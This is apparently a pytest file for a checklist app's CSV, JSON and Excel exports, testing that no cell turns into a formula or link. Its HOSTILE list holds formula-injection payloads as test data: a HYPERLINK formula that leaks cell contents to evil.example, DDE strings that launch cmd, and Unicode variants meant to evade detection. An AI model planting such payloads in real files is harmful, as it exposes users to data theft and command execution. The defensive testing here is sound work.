"""What is told of many designs can be read back from every format, and no text in it ever becomes a formula."""

import csv
import json
import zipfile
from datetime import date
from io import BytesIO, StringIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.checklist.checklist import Checklist, from_pack
from app.checklist.portfolio import CategoryCounts, CheckCounts, Clusters, Counted, Day, Days, Pair, Told
from app.exports.cells import begins_a_formula, cell_text
from app.exports.media_types import PORTFOLIO_MEDIA_TYPES
from app.exports.portfolio_csv import portfolio_csv
from app.exports.portfolio_json import portfolio_json
from app.exports.portfolio_tables import COLUMNS, PAIR_COLUMNS
from app.exports.portfolio_xlsx import portfolio_xlsx

FORMULA = 'HYPERLINK("https://evil.example?a="&A1;"Click")'
HOSTILE = (
    *(f"{sign}{FORMULA}" for sign in "=+-@"),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "\ufe661+1",  # small =
    "\u207c1+1",  # raised =
    "\u22121+1",  # a minus that is none of ASCII's
    "\u20131+1",
    'x";=1+1;"',
    "x\r\n=1+1",
    'x"\r\n"=1+1',
    "x,=1+1",
    "x\t=1+1",
)
QUIET = ("Is it written what the talks are for?", "1 = 2?", "'=1+1", "a+b", "«=»", "\u05e9\u05e8\u05d5\u05df", "#REF!")


def checklist(*texts: str) -> Checklist:
    """A checklist of somebody's own, whose names and questions are these texts."""
    categories = [{"id": text, "name": text, "asks": text} for text in texts]
    checks = [
        {
            "id": f"check.n{number}",
            "category": text,
            "question": f"{text}?",
            "weight": "essential",
            "ask_from": "idea",
            "answered_by": "organiser",
            "answered": {"op": "answered", "path": "/purpose/statement"},
            "say": {"met": "x", "open": "x"},
            "rationale": "x",
            "advice": "x",
            "limits": "x",
            "sources": [{"work": "own"}],
        }
        for number, text in enumerate(texts)
    ]
    about = {"name": "ours", "version": 1, "title": texts[0], "about": "x", "categories": categories}
    return from_pack({"contents": {**about, "checks": [each["id"] for each in checks]}, "checks": checks})


def counted(*texts: str) -> Counted:
    ours = checklist(*texts)
    categories = tuple(CategoryCounts(category, 1, 2, 3, 4) for category in ours.categories)
    return Counted(ours, 6, categories, tuple(CheckCounts(check, 1, 2, 3, 0, 4) for check in ours.checks), 5)


def days(*texts: str) -> Days:
    told = counted(*texts)
    return Days(told.checklist, (Day(date(2026, 3, 1), told), Day(date(2026, 3, 2), told)))


def clusters(*texts: str) -> Clusters:
    ours = checklist(*texts)
    pairs = tuple(Pair(one, ours.checks[0], 2, 0.5, 1.25) for one in ours.checks)
    return Clusters(ours, 4, 3, pairs)


ALL = {"counts": counted, "days": days, "clusters": clusters}
of_each_kind = pytest.mark.parametrize("make", ALL.values(), ids=ALL)


def csv_rows(told: Told) -> list[list[str]]:
    return list(csv.reader(StringIO(portfolio_csv(told).decode(), newline="")))


def sheet(told: Told) -> Any:
    (found,) = load_workbook(BytesIO(portfolio_xlsx(told))).worksheets
    return found


def texts_of(told: Told) -> set[str]:
    """The names and questions that a table must show."""
    names = {one.name for one in told.checklist.categories} if not isinstance(told, Clusters) else set()
    return {cell_text(text) for text in names | {check.question for check in told.checklist.checks}}


class TestNoCell:
    @of_each_kind
    def test_of_a_csv_begins_a_formula(self, make: Any) -> None:
        told = make(*HOSTILE, *QUIET)
        rows = csv_rows(told)
        assert {len(row) for row in rows} == {len(rows[0])}
        for cell in (cell for row in rows for cell in row):
            assert not begins_a_formula(cell)
            assert not set(cell) & set("\t\r\n\0")
        shown = {cell for row in rows for cell in row}
        assert all(text in shown or f"'{text}" in shown for text in texts_of(told))

    @of_each_kind
    def test_of_a_workbook_is_a_formula_or_a_link(self, make: Any) -> None:
        told = make(*HOSTILE, *QUIET)
        found, texts = sheet(told), texts_of(told)
        for cell in (cell for row in found.iter_rows() for cell in row):
            assert cell.data_type in {"s", "n"}
            assert cell.hyperlink is None
            if isinstance(cell.value, str) and begins_a_formula(cell.value):
                assert cell.quotePrefix  # stays a text when somebody edits it
        assert texts <= {cell.value for row in found.iter_rows() for cell in row}

    @of_each_kind
    def test_of_a_workbook_is_written_as_anything_but_text_and_number(self, make: Any) -> None:
        with zipfile.ZipFile(BytesIO(portfolio_xlsx(make(*HOSTILE)))) as parts:
            names = parts.namelist()
            markup = b"".join(parts.read(name) for name in names if "worksheets" in name)
        assert not [mark for mark in (b"<f>", b"<f ", b"<hyperlink", b't="str"', b't="e"') if mark in markup]
        assert not [
            name for name in names if "external" in name.lower() or "vba" in name.lower() or "rels/sheet" in name
        ]

    def test_is_guarded_that_is_harmless(self) -> None:
        shown = {cell for row in csv_rows(counted(*QUIET)) for cell in row}
        assert {cell_text(text) for text in QUIET} <= shown

    @pytest.mark.parametrize("text", HOSTILE[:-5])
    def test_that_would_be_calculated_goes_unseen(self, text: str) -> None:
        assert begins_a_formula(text)

    @given(st.text(max_size=20), st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20"), st.text(max_size=5))
    def test_of_any_text_begins_a_formula(self, before: str, sign: str, after: str) -> None:
        text = before + sign + after
        row = csv_rows(counted(text))[1]
        assert not begins_a_formula(row[4])

    def test_is_longer_than_a_workbook_can_hold(self) -> None:
        assert any(len(str(cell.value)) == 32_000 for row in sheet(counted("x" * 40_000)).iter_rows() for cell in row)


class TestEveryFormat:
    def test_of_counts_says_the_same(self) -> None:
        told = counted("Purpose", "Funding")
        rows = csv_rows(told)
        assert tuple(rows[0]) == COLUMNS
        assert rows[1] == [
            "ours@1",
            "6",
            "category",
            "Purpose",
            "Purpose",
            "Purpose",
            "",
            "1",
            "3",
            "",
            "",
            "2",
            "",
            "4",
        ]
        assert rows[4][:7] == ["ours@1", "6", "check", "check.n1", "Funding?", "Funding", "essential"]
        assert rows[4][7:] == ["", "", "1", "2", "3", "0", "4"]
        cells = [[cell.value for cell in row] for row in sheet(told).iter_rows()]
        assert [["" if cell is None else str(cell) for cell in row] for row in cells] == rows
        document = json.loads(portfolio_json(told))
        assert (document["designs"], document["elsewhere"]) == (6, 5)
        states = {"clear": 1, "open": 2, "concerns": 3, "waived": 4}
        assert document["categories"][0] == {"id": "Purpose", "name": "Purpose", **states}
        outcomes = {"met": 1, "concern": 2, "open": 3, "not_applicable": 0, "waived": 4}
        asked = {"id": "check.n1", "category": "Funding", "question": "Funding?", "weight": "essential"}
        assert document["checks"][1] == asked | outcomes

    def test_of_days_says_which_day(self) -> None:
        told = days("Purpose")
        rows = csv_rows(told)
        assert (rows[0][0], [row[0] for row in rows[1:]]) == ("day", ["2026-03-01"] * 2 + ["2026-03-02"] * 2)
        assert [each["day"] for each in json.loads(portfolio_json(told))["items"]] == ["2026-03-01", "2026-03-02"]

    def test_of_pairs_says_how_often(self) -> None:
        told = clusters("Purpose")
        assert csv_rows(told) == [
            list(PAIR_COLUMNS),
            ["ours@1", "4", "3", "check.n0", "Purpose?", "check.n0", "Purpose?", "2", "0.5", "1.25"],
        ]
        assert json.loads(portfolio_json(told))["compared"] == 3

    @pytest.mark.parametrize("name", PORTFOLIO_MEDIA_TYPES)
    @of_each_kind
    def test_of_the_same_is_the_same_bytes(self, make: Any, name: str) -> None:
        once, again = (PORTFOLIO_MEDIA_TYPES[name].write(make(*QUIET)) for _ in range(2))
        assert once == again

    def test_has_a_media_type_of_its_own(self) -> None:
        types = [each.media_type.partition(";")[0] for each in PORTFOLIO_MEDIA_TYPES.values()]
        assert types == [
            "application/json",
            "text/csv",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ]
